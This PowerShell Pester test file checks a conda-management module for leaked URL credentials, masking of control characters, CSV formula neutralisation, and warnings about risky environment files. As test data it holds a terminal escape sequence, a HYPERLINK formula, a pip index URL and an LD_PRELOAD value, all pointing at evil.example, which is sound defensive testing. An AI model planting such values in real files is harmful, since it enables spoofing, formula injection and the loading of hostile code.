# Other people's data at the prompt: no secret of an address in any stream or object, nothing that moves the cursor, no
# formula for a spreadsheet, and a word about what a file makes the tools do.

BeforeAll {
    . "$PSScriptRoot/Support.ps1"
    $envs = Join-Path $TestDrive 'envs'
    Enter-TestMachine $TestDrive -EnvironmentsFolder $envs
    $package = {
        param([hashtable] $Fields)
        $record = @{ name = 'a'; version = '1.0'; build = '0'; build_number = 0; depends = @(); subdir = 'linux-64' }
        $Fields.GetEnumerator() | ForEach-Object { $record[$_.Key] = $_.Value }
        ConvertTo-Json $record -Depth 4
    }

    # All that a person or a program could see of what a command gives: every stream, as tables, lists, JSON, CSV and CliXml.
    function Get-Everything([scriptblock] $Command) {
        $all = @(try { & $Command *>&1 } catch { $_ })
        $rows = @($all | Where-Object { $_ -isnot [Management.Automation.InformationalRecord] -and $_ -isnot [Management.Automation.ErrorRecord] })
        $all | Out-String -Width 300
        $all | ForEach-Object { "$_"; "$($_.TargetObject)"; "$($_.Exception)"; "$($_.CategoryInfo)" }
        if ($rows) {
            $rows | Format-Table | Out-String -Width 300
            $rows | Format-List * | Out-String -Width 300
            ConvertTo-Json $rows -Depth 5 -WarningAction Ignore
            $rows | ConvertTo-Csv
            [Management.Automation.PSSerializer]::Serialize($rows, 3)
        }
    }
}

AfterAll {
    Exit-TestMachine
}

Describe 'A secret in the form <_>' -ForEach @(
    'https://user:CANARY@host.example/c', 'HTTPS://CANARY@host.example/c', "https://user:pa'CANARY@host.example/c", 'git+https://CANARY@host.example/c', 'https://host.example/t/CANARY/c'
    'host.example/t/CANARY/c', 'user:CANARY@host.example/c', 'https://host.example/c?path=/t/abc&token=CANARY', 'https://host.example/c;sid=CANARY', 'https://host.example/c#token=CANARY'
    'https%3A%2F%2Fuser%3ACANARY%40host.example%2Fc', 'https:\\user:CANARY@host.example\c'
) {
    It 'is in no stream and no object of any cmdlet' {
        $form = $_
        $json = ConvertTo-Json $form
        $site = 'lib/python3.12/site-packages'
        $prefix = Add-TestEnvironment $envs 'e' -Package 'python=3.12=0' -File @{
            'conda-meta/a-1.0-0.json' = & $package @{ channel = $form; url = "$form/linux-64/a-1.0-0.conda"; license = $form; requested_spec = $form; constrains = @($form) }
            'conda-meta/b-1.0-0.json' = "{""name"": $json"
            'conda-meta/history' = "==> 2026-01-01 00:00:00 <==`n# cmd: conda create -c $form --token CANARY`n# update specs: [$json]`n"
            'conda-meta/pinned' = "$form`n"
            'conda-meta/frozen' = "{""message"": $json}"
            "$site/p-1.0.dist-info/METADATA" = "Metadata-Version: 2.1`nName: p`nVersion: 1.0`nLicense: $form`nRequires-Dist: q @ $form`n"
            "$site/p-1.0.dist-info/RECORD" = ''
            "$site/p-1.0.dist-info/INSTALLER" = $form
            "$site/p-1.0.dist-info/direct_url.json" = "{""url"": $json, ""subdirectory"": $json, ""vcs_info"": {""vcs"": ""git"", ""commit_id"": ""0123456789abcdef0123456789abcdef01234567"", ""requested_revision"": $json}}"
            "$site/r-1.0.dist-info/METADATA" = "Metadata-Version: 2.1`nName: r`nVersion: 1.0`n"
            '.condarc' = "channels: [$json]`n$json`: [`n"
        }
        $yaml = Join-Path $TestDrive 'environment.yml'
        Set-Content $yaml "name: made`nchannels: [$json]`ndependencies:`n- $json`n- pip:`n  - $json`n  - ""--index-url $form""`n$json`: 1" -NoNewline
        Set-Content (Join-Path $TestDrive 'explicit.txt') "@EXPLICIT`n$form/linux-64/a-1.0-0.conda`n$form"
        Set-Content (Join-Path $TestDrive '.condarc') "channels: [$json]`nchannel_alias: $json`n$json`: 1"
        $env:CONDARC = Join-Path $TestDrive '.condarc'
        try {
            $text = @(
                Get-Everything { Get-CondaEnv -Verbose }
                Get-Everything { Get-CondaEnv e }
                Get-Everything { Get-CondaPackage -EnvironmentName e -Verbose }
                Get-Everything { Get-CondaPackage $form -EnvironmentName e }
                Get-Everything { Get-CondaPackage -EnvironmentName e -Channel $form }
                Get-Everything { Get-CondaPackage -EnvironmentName e -AsJson }
                Get-Everything { Get-CondaPackageDependency -EnvironmentName e -IncludeOptional }
                Get-Everything { Get-CondaPackageDependency $form -EnvironmentName e }
                foreach ($as in [Enum]::GetNames([CondaEnv.DependencyFormat])) { Get-Everything { Get-CondaPackageDependency -EnvironmentName e -IncludeOptional -As $as } }
                Get-Everything { Get-CondaPackageFile $form -EnvironmentName e -Verify }
                Get-Everything { Get-CondaPackage -OwnerOf $form -EnvironmentName e }
                Get-Everything { Get-CondaEnvHistory e -Verbose }
                Get-Everything { Measure-CondaEnv e -Verbose }
                foreach ($format in (Get-CondaExportFormat).Name) {
                    Get-Everything { Export-CondaEnv e -Format $format -Verbose }
                    Get-Everything { Export-CondaEnv e -Format $format -Style Portable }
                }

                Get-Everything { Export-CondaEnv e -ReportOnly }
                Get-Everything { Save-CondaEnvRecord e -Path (Join-Path $TestDrive 'records') -PassThru -Verbose -WhatIf:$false }
                foreach ($file in $yaml, (Join-Path $TestDrive 'explicit.txt'), (Join-Path $TestDrive 'records/*')) {
                    Get-Everything { Get-Item $file | Import-CondaEnvFile -Verbose }
                    Get-Everything { (Get-Item $file | Import-CondaEnvFile).Dependencies }
                    Get-Everything { Get-Item $file | Find-CondaEnvFileIssue -Verbose }
                    Get-Everything { Get-Item $file | Test-CondaEnvFile -Verbose }
                    Get-Everything { Compare-CondaEnv e (Get-Item $file).FullName -Verbose }
                    Get-Everything { Compare-CondaEnv e (Get-Item $file).FullName -Summary }
                    Get-Everything { New-CondaEnv new -Path (Get-Item $file).FullName -WhatIf -Verbose }
                }

                Get-ChildItem (Join-Path $TestDrive 'records') -File -Recurse | Get-Content
            )
        } finally {
            Remove-Item Env:CONDARC
            Remove-Item (Join-Path $TestDrive 'records'), $prefix -Recurse -Force -ErrorAction Ignore
        }

        $text.Count | Should -BeGreaterThan 100
        # The script's own line stands in an error's position; what is typed at the prompt is the user's own.
        $text -split "`n" | Where-Object { $_ -match 'CANARY' -and $_ -notmatch '^\s*(At |Line |\+|\d* *\|)' } | Select-Object -First 5 | Should -BeNullOrEmpty
    }
}

Describe 'Control characters and direction marks' {
    BeforeAll {
        $evil = "a$([char]27)]0;owned$([char]7)$([char]0x202e)b"
        $null = Add-TestEnvironment $envs 'masked' -Package 'zlib=1.3=0' -File @{
            'conda-meta/a-1.0-0.json' = & $package @{ channel = "https://host.example/$evil"; license = $evil; depends = @($evil); files = @($evil) }
            'conda-meta/history' = "==> 2026-01-01 00:00:00 <==`n# cmd: conda create $evil`n# update specs: ['zlib', '$evil']`n"
            'conda-meta/frozen' = (ConvertTo-Json @{ message = $evil })
        }
        $file = Join-Path $TestDrive 'masked.yml'
        Set-Content $file (ConvertTo-Json @{ name = 'masked'; channels = @($evil); dependencies = @("zlib=1.3=$evil", $evil, @{ pip = @($evil) }) } -Depth 4)
        if ($PSStyle) {
            $rendering = $PSStyle.OutputRendering
            $PSStyle.OutputRendering = 'Ansi'
        }
    }

    AfterAll {
        if ($PSStyle) {
            $PSStyle.OutputRendering = $rendering
        }
    }

    It 'are masked in tables, lists and messages of <_>' -ForEach @(
        'Get-CondaEnv masked', 'Get-CondaPackage -EnvironmentName masked', 'Get-CondaPackage a* -EnvironmentName masked', 'Get-CondaEnvHistory masked', 'Measure-CondaEnv masked', 'Get-CondaPackageDependency -EnvironmentName masked', 'Get-CondaPackageDependency -EnvironmentName masked -Summary', 'Get-CondaPackageDependency -EnvironmentName masked -As Text', 'Get-CondaPackageFile -EnvironmentName masked -Verify', 'Import-CondaEnvFile $file'
        '(Import-CondaEnvFile $file).Dependencies', 'Find-CondaEnvFileIssue $file', 'Compare-CondaEnv masked $file', 'Compare-CondaEnv masked $file -Summary'
        'Export-CondaEnv masked -ReportOnly', '(Export-CondaEnv masked -ReportOnly).Losses', 'Save-CondaEnvRecord masked -Path "$TestDrive/masked" -PassThru', 'Test-CondaEnvFile $file -Verbose'
        'Get-CondaEnv "masked$([char]27)(0"', 'New-CondaEnv new -Path $file -WhatIf -Verbose'
    ) {
        $all = @(& ([scriptblock]::Create($_)) *>&1)
        $all.Count | Should -BeGreaterThan 0
        $text = ($all | Format-Table | Out-String -Width 300) + ($all | Format-List | Out-String -Width 300) + ($all | Where-Object { $_ -is [Management.Automation.InformationalRecord] -or $_ -is [Management.Automation.ErrorRecord] } | Out-String -Width 300)
        # Colours of our own end with 'm'; of a position of an error, the script's own line is not ours.
        ($text -split "`n" | Where-Object { $_ -match "$([char]27)\]|$([char]7)|$([char]0x202e)" -and $_ -notmatch '\|' }) | Should -BeNullOrEmpty
    }

    It 'stay in the objects' {
        (Get-CondaPackage -EnvironmentName masked -Requested:$false | Where-Object License -eq $evil).Count | Should -Be 1
    }
}

Describe 'A formula' {
    It 'is text in the CSV file of a record with -SafeCsv' {
        $null = Add-TestEnvironment $envs 'formula' -Package 'zlib=1.3=0' -File @{ 'conda-meta/a-1.0-0.json' = & $package @{ license = '=HYPERLINK("http://evil.example")' } }
        $record = Save-CondaEnvRecord formula -Path (Join-Path $TestDrive 'formulas') -SafeCsv -PassThru
        Get-Content (Join-Path $record.Path 'packages.csv') -Raw | Should -Match ",""'=HYPERLINK\("
        (Import-Csv (Join-Path $record.Path 'packages.csv') | Where-Object Name -eq 'a').License | Should -BeExactly "'=HYPERLINK(""http://evil.example"")"
        Compare-CondaEnv formula $record.Path -Quiet | Should -BeTrue
        (Save-CondaEnvRecord formula -Path (Join-Path $TestDrive 'formulas') -SafeCsv -PassThru).IsChanged | Should -BeFalse
    }
}

Describe 'What a file makes the tools do' {
    It 'is a warning before anything is done' {
        $file = Join-Path $TestDrive 'demands.yml'
        Set-Content $file "channels: [conda-forge]`ndependencies:`n- python=3.12=0`n- pip:`n  - --index-url https://evil.example/simple`n  - -e ./src`nvariables: {LD_PRELOAD: /tmp/x.so, Path: /tmp, GREETING: hello}"
        New-CondaEnv new -Path $file -WhatIf -WarningVariable warnings -WarningAction SilentlyContinue
        $warnings.Count | Should -Be 2
        "$($warnings[0])" | Should -Match "'--index-url https://evil.example/simple', '-e ./src'\.$"
        "$($warnings[1])" | Should -Match "'LD_PRELOAD', 'Path'\.$"
    }
}
